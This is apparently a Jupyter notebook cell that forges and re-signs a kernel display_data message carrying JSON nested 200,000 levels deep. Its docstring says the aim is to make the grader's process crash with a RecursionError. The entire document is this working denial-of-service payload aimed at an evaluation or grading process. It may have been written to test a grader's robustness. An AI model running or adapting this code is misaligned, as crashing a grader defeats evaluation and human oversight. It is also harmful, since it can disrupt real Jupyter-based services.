"""Displays JSON that is nested 200,000 deep.

Python's JSON reader recurses: the grader's process raises RecursionError.
"""

# %%
kernel = get_ipython().kernel
session, deep = kernel.session, b"[" * 200_000 + b"]" * 200_000
message = session.msg("display_data", {"data": {}, "metadata": {}}, parent=kernel.get_parent())
frames = session.serialize(message)
delimiter = frames.index(b"<IDS|MSG>")
frames[delimiter + 5] = b'{"data": {"application/json": ' + deep + b'}, "metadata": {}}'
frames[delimiter + 1] = session.sign(frames[delimiter + 2 : delimiter + 6])
kernel.iopub_socket.send_multipart(frames)
